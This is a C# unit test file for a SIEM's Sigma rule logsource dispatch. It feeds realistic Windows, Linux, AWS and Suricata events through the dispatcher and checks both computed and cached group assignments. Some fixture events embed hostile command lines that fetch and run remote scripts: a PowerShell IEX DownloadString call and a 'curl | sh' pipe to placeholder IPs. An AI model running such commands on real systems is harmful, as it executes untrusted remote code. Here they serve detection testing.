using System.Text;
using Llama3Siem.Prompts.Detection;
using Llama3Siem.Prompts.Detection.Sigma;
using Llama3Siem.Prompts.Events;
using Llama3Siem.Prompts.Tests.Events;
using Llama3Siem.TestModels;

namespace Llama3Siem.Prompts.Tests.Detection.Sigma;

/// <summary>
/// <see cref="SigmaLogsourceDispatch"/> remembers the groups of each distinct logsource facts: every event must get
/// exactly the groups whose predicate it passes, whether the answer is worked out or remembered.
/// </summary>
public sealed class SigmaLogsourceDispatchTests
{
    /// <summary>A logsource of every kind the mapping knows: each branch of it, and the corners of each.</summary>
    private static readonly SigmaLogsource[] EveryKind =
    [
        new("windows", null, null),
        new("windows", "process_creation", null),
        new("windows", "process_creation", "sysmon"),
        new("windows", "network_connection", null),
        new("windows", "registry_event", null),
        new("windows", "dns_query", null),
        new("windows", "ps_script", null),
        new("windows", "ps_classic_start", null),
        new("windows", null, "security"),
        new("windows", null, "system"),
        new("windows", null, "sysmon"),
        new("windows", null, "powershell"),
        new("windows", null, "applocker"),
        new("Windows", "Process_Creation", null),
        new("aws", null, "cloudtrail"),
        new("aws", null, null),
        new("linux", null, null),
        new("linux", "process_creation", null),
        new("linux", "network_connection", null),
        new("linux", "file_event", null),
        new(null, "dns", null),
        new("suricata", null, null),
        new("suricata", null, "alert"),
        new("suricata", null, "dns"),
        new("suricata", null, "http"),
        new("suricata", null, "flow"),
    ];

    /// <summary>The fields logsources are read from, each of which some variant of an event lacks (<see cref="Variants"/>).</summary>
    private static readonly string[] LogsourceFields =
    [
        "Channel", "winlog.channel", "log_name", "SourceName", "ProviderName", "winlog.provider_name", "source_name", "event.provider",
        "EventID", "EventId", "winlog.event_id", "event_id", "event.code", "event_type", "event.dataset", "host.os.type", "host.os.family",
        "event.category", "event.category.0", "event.category.1", "event.type", "event.type.0", "event.action", "process.executable",
    ];

    /// <summary>
    /// Hand-made events of every logsource kind: the logsources of <see cref="EveryKind"/> each belongs to, and the
    /// format the parser must give it.
    /// </summary>
    private static readonly (string Kind, string Logsources, string Format, string Json)[] HandMadeEvents =
    [
        ("Sysmon process creation, NXLog names", "windows/-/- windows/process_creation/- windows/process_creation/sysmon windows/-/sysmon Windows/Process_Creation/-", EventFormats.Windows, """
            {"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Hostname":"WS1",
             "Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd /c whoami","TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("Sysmon known by its provider only", "windows/-/- windows/process_creation/- windows/process_creation/sysmon windows/-/sysmon Windows/Process_Creation/-", EventFormats.Windows, """
            {"EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Hostname":"WS1","Image":"C:\\Windows\\System32\\cmd.exe",
             "CommandLine":"cmd /c whoami","TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("Sysmon known by a channel that names it", "windows/-/- windows/network_connection/- windows/-/sysmon", EventFormats.Windows, """
            {"EventID":3,"Channel":"sysmon","Hostname":"WS1","Image":"C:\\Windows\\System32\\cmd.exe","DestinationIp":"198.51.100.7",
             "TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("Sysmon registry event in the event XML's shape", "windows/-/- windows/registry_event/- windows/-/sysmon", EventFormats.Windows, """
            {"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":13,
             "Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS-LAB-04"},
             "EventData":{"TargetObject":"HKLM\\Software\\Run\\x","Details":"C:\\Temp\\x.exe"}}}
            """),
        ("Security 4688 with its channel", "windows/-/- windows/process_creation/- windows/-/security Windows/Process_Creation/-", EventFormats.Windows, """
            {"EventID":4688,"Channel":"Security","Hostname":"WS1","NewProcessName":"C:\\Windows\\System32\\cmd.exe",
             "CommandLine":"cmd /c whoami","TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("Security 4688 with its channel in lower case", "windows/-/- windows/process_creation/- windows/-/security Windows/Process_Creation/-", EventFormats.Windows, """
            {"EventID":4688,"Channel":"security","Hostname":"WS1","NewProcessName":"C:\\Windows\\System32\\cmd.exe",
             "TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("Windows event without a channel", "windows/-/-", EventFormats.Windows, """
            {"EventID":4688,"SourceName":"Microsoft-Windows-Security-Auditing","Hostname":"WS1",
             "NewProcessName":"C:\\Windows\\System32\\cmd.exe","TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("PowerShell script block", "windows/-/- windows/ps_script/- windows/-/powershell", EventFormats.Windows, """
            {"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Hostname":"WS1",
             "ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')","TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("Classic PowerShell engine start", "windows/-/- windows/ps_classic_start/-", EventFormats.Windows, """
            {"EventID":400,"Channel":"Windows PowerShell","Hostname":"WS1","TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("AppLocker block", "windows/-/- windows/-/applocker", EventFormats.Windows, """
            {"EventID":8004,"Channel":"Microsoft-Windows-AppLocker/EXE and DLL","Hostname":"WS1","TimeCreated":"2026-03-01T09:00:00Z"}
            """),
        ("Winlogbeat Sysmon process creation", "windows/-/- windows/process_creation/- windows/process_creation/sysmon windows/-/sysmon Windows/Process_Creation/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-01T09:00:00Z","event":{"code":"1","kind":"event","category":["process"],"type":["start"]},
             "host":{"name":"WS1","os":{"type":"windows"}},
             "winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","provider_name":"Microsoft-Windows-Sysmon",
               "event_data":{"ParentImage":"C:\\Office\\WINWORD.EXE"}},
             "process":{"executable":"C:\\Windows\\System32\\cmd.exe","command_line":"cmd /c whoami"}}
            """),
        ("Winlogbeat Security logon", "windows/-/- windows/-/security", EventFormats.Ecs, """
            {"@timestamp":"2026-03-02T07:52:09.870Z","event.code":"4624","event.action":"logged-in","event.kind":"event","host.name":"dc01",
             "winlog.channel":"Security","winlog.provider_name":"Microsoft-Windows-Security-Auditing","winlog.event_data.TargetUserName":"j.doe"}
            """),
        ("Elastic Agent Windows event with an id and no channel", "windows/-/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-02T07:52:09.870Z","event":{"kind":"event"},"host":{"name":"ws1"},
             "winlog":{"event_id":"4688","provider_name":"Microsoft-Windows-Security-Auditing"}}
            """),
        ("Elastic Defend process start on Windows", "windows/process_creation/- Windows/Process_Creation/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-01T09:00:00Z","event":{"category":["process"],"type":["start"],"action":"start","kind":"event"},
             "host":{"name":"WS1","os":{"type":"windows"}},
             "process":{"executable":"C:\\Windows\\System32\\cmd.exe","command_line":"cmd /c whoami","parent":{"executable":"C:\\Office\\WINWORD.EXE"}}}
            """),
        ("Elastic Defend process start known by its drive-letter path", "windows/process_creation/- Windows/Process_Creation/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-01T09:00:00Z","event":{"action":"exec","kind":"event"},"host":{"name":"WS1"},
             "process":{"executable":"D:\\Tools\\x.exe","command_line":"x.exe -q"}}
            """),
        ("Elastic Defend process end on Windows", "", EventFormats.Ecs, """
            {"@timestamp":"2026-03-01T09:00:00Z","event":{"category":["process"],"type":["end"],"action":"end","kind":"event"},
             "host":{"name":"WS1","os":{"family":"windows"}},"process":{"executable":"C:\\Windows\\System32\\cmd.exe"}}
            """),
        ("Linux process start", "linux/-/- linux/process_creation/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-01T09:00:00Z","event":{"category":["process"],"type":["start"],"action":"exec","kind":"event"},
             "host":{"name":"web1","os":{"type":"linux"}},"process":{"executable":"/usr/bin/curl","command_line":"curl -s http://198.51.100.7/x | sh"}}
            """),
        ("Linux process start with scalar kinds and an OS family", "linux/-/- linux/process_creation/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-01T09:00:00Z","event":{"category":"process","type":"start","kind":"event"},
             "host":{"name":"web1","os":{"family":"Linux"}},"process":{"executable":"/usr/bin/id"}}
            """),
        ("Linux network connection", "linux/-/- linux/network_connection/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-01T09:00:00Z","event":{"category":["network"],"type":["connection","start"],"kind":"event"},
             "host":{"name":"web1","os":{"type":"linux"}},"destination":{"ip":"198.51.100.7","port":4444}}
            """),
        ("Linux file creation, file the second category", "linux/-/- linux/file_event/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-01T09:00:00Z","event":{"category":["host","file"],"type":["creation"],"kind":"event"},
             "host":{"name":"web1","os":{"type":"linux"}},"file":{"path":"/tmp/.x"}}
            """),
        ("CloudTrail record", "aws/-/cloudtrail aws/-/-", EventFormats.CloudTrail, """
            {"eventVersion":"1.08","eventTime":"2026-03-02T11:40:12Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging",
             "eventID":"e1","userIdentity":{"type":"IAMUser","userName":"mallory"}}
            """),
        ("CloudTrail record in ECS", "aws/-/cloudtrail aws/-/-", EventFormats.Ecs, """
            {"@timestamp":"2026-03-02T11:40:12Z","event":{"dataset":"aws.cloudtrail","provider":"cloudtrail.amazonaws.com","action":"StopLogging",
             "kind":"event"},"user":{"name":"mallory"},"cloud":{"provider":"aws"}}
            """),
        ("Suricata alert", "suricata/-/- suricata/-/alert", EventFormats.SuricataEve, """
            {"timestamp":"2026-03-02T09:02:20.181007+0000","event_type":"alert","src_ip":"10.20.1.57","src_port":51600,
             "dest_ip":"185.234.72.19","dest_port":443,"proto":"TCP",
             "alert":{"signature":"LOCAL MALWARE Periodic TLS beacon","category":"A Network Trojan was detected","severity":1}}
            """),
        ("Suricata DNS record", "-/dns/- suricata/-/- suricata/-/dns", EventFormats.SuricataEve, """
            {"timestamp":"2026-03-02T09:02:20.181007+0000","event_type":"dns","src_ip":"10.20.1.57","src_port":53000,
             "dest_ip":"10.20.0.2","dest_port":53,"proto":"UDP","dns":{"type":"query","rrname":"x.example","rrtype":"A"}}
            """),
        ("Suricata DNS record, its type in capitals", "suricata/-/- suricata/-/dns", EventFormats.SuricataEve, """
            {"timestamp":"2026-03-02T09:02:20.181007+0000","event_type":"DNS","src_ip":"10.20.1.57","src_port":53000,
             "dest_ip":"10.20.0.2","dest_port":53,"proto":"UDP","dns":{"type":"query","rrname":"x.example","rrtype":"A"}}
            """),
        ("Suricata flow", "suricata/-/- suricata/-/flow", EventFormats.SuricataEve, """
            {"timestamp":"2026-03-02T09:02:20.181007+0000","event_type":"flow","src_ip":"10.20.1.57","src_port":51600,
             "dest_ip":"185.234.72.19","dest_port":443,"proto":"TCP"}
            """),
    ];

    public static TheoryData<string, string, string, string> HandMade => new(HandMadeEvents);

    [Theory]
    [MemberData(nameof(HandMade))]
    public void A_hand_made_event_gets_the_logsources_of_its_kind_worked_out_and_remembered(string kind, string logsources, string format, string json)
    {
        var evt = EventParsing.Parsed(json, kind);
        var filters = Filters(EveryKind);
        var dispatch = new SigmaLogsourceDispatch(filters);

        Assert.Equal(EveryKind.Length, filters.Count);
        Assert.Equal(format, evt.Format);
        // The first time the groups are worked out, the second they are remembered.
        for (var time = 0; time < 2; time++)
        {
            var groups = dispatch.GroupsOf(evt).ToArray();
            Assert.Equal(ByPredicate(filters, evt), groups);
            Assert.Equal(logsources, string.Join(" ", groups.Select(g => EveryKind[g])));
        }
    }

    [Fact]
    public void Every_event_of_the_corpus_gets_the_groups_whose_predicate_it_passes()
    {
        var filters = Filters([.. EveryKind, .. SigmaHqLogsources(), .. BuiltInSigmaRules.Load().Rules.Select(r => r.Logsource)]);
        var dispatch = new SigmaLogsourceDispatch(filters);
        var events = Corpus().SelectMany(Variants).ToList();

        var differences = new List<string>();
        var reached = new HashSet<int>();
        foreach (var evt in events.Concat(events))
        {
            var expected = ByPredicate(filters, evt);
            var actual = dispatch.GroupsOf(evt).ToArray();
            if (!expected.SequenceEqual(actual))
            {
                differences.Add($"{evt.Origin}: predicates [{string.Join(", ", expected)}], dispatch [{string.Join(", ", actual)}]");
            }

            reached.UnionWith(actual);
        }

        Assert.Empty(differences.Take(20));

        // The corpus proves something only where it reaches logsources of every kind.
        Assert.All(Enumerable.Range(0, EveryKind.Length), group => Assert.Contains(group, reached));
    }

    [Fact]
    public void Events_whose_facts_are_not_remembered_still_get_the_groups_whose_predicate_they_pass()
    {
        var filters = Filters(EveryKind);
        var dispatch = new SigmaLogsourceDispatch(filters);

        // More distinct event ids than are remembered, and a channel too long to be.
        var events = Enumerable.Range(0, 5000).Select(id => SigmaTesting.Sysmon(id))
            .Append(SigmaTesting.Sysmon(1, ("Channel", new string('x', 200) + "Sysmon")))
            .Append(SigmaTesting.Sysmon(1, ("Channel", new string('x', 200))))
            .ToList();

        Assert.All(events.Concat(events), evt => Assert.Equal(ByPredicate(filters, evt), dispatch.GroupsOf(evt).ToArray()));
    }

    /// <summary>
    /// The event, the event without each field a logsource is read from, and the event as the other format Windows
    /// records come in: near twins, which a dispatch that remembered too little of an event would confuse.
    /// </summary>
    private static IEnumerable<SecurityEvent> Variants(SecurityEvent evt)
    {
        yield return evt;
        foreach (var name in LogsourceFields.Where(evt.Fields.ContainsKey))
        {
            yield return evt with { Fields = evt.Fields.Where(f => f.Key != name).ToDictionary(StringComparer.Ordinal), Origin = $"{evt.Origin} without {name}" };
        }

        yield return evt with { Format = evt.Format == EventFormats.Ecs ? EventFormats.Windows : EventFormats.Ecs, Origin = $"{evt.Origin} as the other format" };
    }

    /// <summary>The reference: every group's predicate evaluated on the event, where the event's format is the group's.</summary>
    private static int[] ByPredicate(IReadOnlyList<SigmaLogsourceFilter> filters, SecurityEvent evt)
    {
        var facts = SigmaLogsourceFacts.Of(evt);
        return [.. Enumerable.Range(0, filters.Count).Where(g => filters[g].Formats.Contains(evt.Format) && filters[g].Applies(facts))];
    }

    private static List<SigmaLogsourceFilter> Filters(IEnumerable<SigmaLogsource> logsources) =>
        [.. logsources.Distinct().Select(SigmaLogsourceMapping.Map).OfType<SigmaLogsourceFilter>()];

    private static IEnumerable<SigmaLogsource> SigmaHqLogsources()
    {
        var root = RepositoryFiles.SharedData(Path.Combine("sigma", "rules"));
        return root is null
            ? []
            : new[] { "windows", "linux", "cloud", "network" }.SelectMany(a => SigmaRuleLoader.LoadFolder(Path.Combine(root, a)).Rules).Select(r => r.Logsource);
    }

    /// <summary>The shipped samples, every template of <see cref="SecurityEventCorpus"/> in both cases, a day's mix, and the hand-made events.</summary>
    private static List<SecurityEvent> Corpus()
    {
        var parser = new EventParser();
        var lines = new[] { "events.jsonl", "windows-raw.jsonl" }.SelectMany(f => RepositoryFiles.Lines(RepositoryFiles.Sample(f)))
            .Concat(SecurityEventCorpus.EveryTemplate().Concat(SecurityEventCorpus.EveryTemplate(shuffleCase: true))
                .Concat(SecurityEventCorpus.Mixed(3000, seed: 7)).Select(Encoding.UTF8.GetBytes));
        return [
            .. lines.Select((line, i) => parser.Parse(line, $"corpus:{i}").Event ?? throw new InvalidDataException($"corpus line {i} does not parse")),
            .. HandMadeEvents.Select(e => EventParsing.Parsed(e.Json, e.Kind)),
        ];
    }
}
